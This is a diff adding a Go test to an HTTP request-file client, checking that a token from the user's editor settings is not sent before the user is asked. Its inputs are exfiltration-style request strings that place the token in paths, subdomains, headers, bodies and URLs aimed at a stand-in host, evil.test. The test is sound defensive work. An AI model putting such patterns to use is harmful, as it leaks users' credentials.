@@ -375,3 +375,71 @@ func TestThreatCurlGoesAroundTheGuard(t *testing.T) {
 		}
 	}
 }
+
+// TestThreatEditorSettings: what only the user's own settings of the editor hold
+// is the user's. A cloned file that names the variable has it sent nowhere
+// before the user was asked, wherever in the request it stands; but the user's
+// own server may be named by it.
+func TestThreatEditorSettings(t *testing.T) {
+	t.Parallel()
+	const token = "t0ken-of-the-user"
+	envs := env.Load(fstest.MapFS{}, ".").WithEditor(`{"$shared": {"token": "` + token + `", "host": "example.com", "base": "https://example.com/v1", "origin": "https://example.com", "o": {"k": "` + token + `"}}}`)
+	for src, in := range map[string]string{
+		"GET https://example.com/{{token}}":                                                           "path",
+		"GET https://example.com/?t={{token}}":                                                        "query",
+		"GET https://example.com/?t={{%token}}":                                                       "query",
+		"GET https://{{token}}@example.com/":                                                          "header:Authorization",
+		"GET https://{{token}}.example.com/":                                                          "url",
+		"GET https://{{host}}.example.com/":                                                           "url",
+		"GET {{origin}}.evil.test/":                                                                   "url",
+		"GET {{origin}}@evil.test/":                                                                   "header:Authorization",
+		"GET https://evil.{{host}}/":                                                                  "url",
+		"GET {{origin}}:8443/{{base}}":                                                                "path",
+		"GET https://example.com/\nX-A: {{token}}":                                                    "header:X-A",
+		"GET https://example.com/\nAuthorization: Basic user {{token}}":                               "header:Authorization",
+		"GET https://example.com/\nHost: {{token}}.example.com":                                       "header:Host",
+		"POST https://example.com/\n\n{\"a\": \"{{token}}\"}":                                         "body",
+		"POST https://example.com/\n\n<@ vars.txt":                                                    "body",
+		"POST https://example.com/\n\n{{<@ vars.txt}}":                                                "body",
+		"POST https://example.com/\nContent-Type: application/x-www-form-urlencoded\n\na={{token}}":   "body",
+		"POST https://example.com/\nX-Request-Type: GraphQL\n\nquery { a(b: \"{{token}}\") }":         "body",
+		"POST https://example.com/\nX-Request-Type: GraphQL\n\nquery { a }\n\n{\"v\": \"{{token}}\"}": "body",
+		"GRAPHQL https://example.com/\n\nquery { a(b: \"{{token}}\") }":                               "body",
+		"curl https://example.com/ -d '{{token}}'":                                                    "body",
+		"@t = x{{token}}\nGET https://example.com/{{t}}":                                              "path",
+		"GET https://example.com/{{$shared token}}":                                                   "path",
+		"GET https://example.com/{{o.k}}":                                                             "path",
+		"GET https://example.com/{{$datetime \"'{{token}}'\"}}":                                       "path",
+		"GET https://{{host}}/":                                                                       "",
+		"GET https://{{host}}:8443/a":                                                                 "",
+		"GET {{base}}/a":                                                                              "",
+		"GET /a\nHost: {{host}}":                                                                      "",
+		"GET {{base}}/{{token}}":                                                                      "path",
+	} {
+		w := newWorld(t)
+		if err := writeFile(filepath.Join(w.dir, "vars.txt"), "a{{token}}"); err != nil {
+			t.Fatal(err)
+		}
+		file := parser.Parse(src)
+		plan, problems := request.Build(file, file.Blocks[0].Request, env.NewScope(file, envs, "", nil), w.sources())
+		if plan == nil {
+			t.Errorf("%s: %+v", src, problems)
+			continue
+		}
+		server := w.serve(true, nil)
+		for _, address := range []string{"example.com:443", "example.com:8443"} {
+			w.hosts[address] = server.addr()
+		}
+		w.answer = request.Deny
+		_, err := w.sender().Send(t.Context(), plan, w.call())
+		if in == "" {
+			if len(w.asked) > 0 {
+				t.Errorf("%s: asked %+v", src, w.asked)
+			}
+			continue
+		}
+		if err == nil || len(w.asked) != 1 || w.asked[0].Items[0].In != in || len(server.requests()) > 0 {
+			t.Errorf("%s: %v, asked %+v, want %s, %d requests", src, err, w.asked, in, len(server.requests()))
+		}
+	}
+}
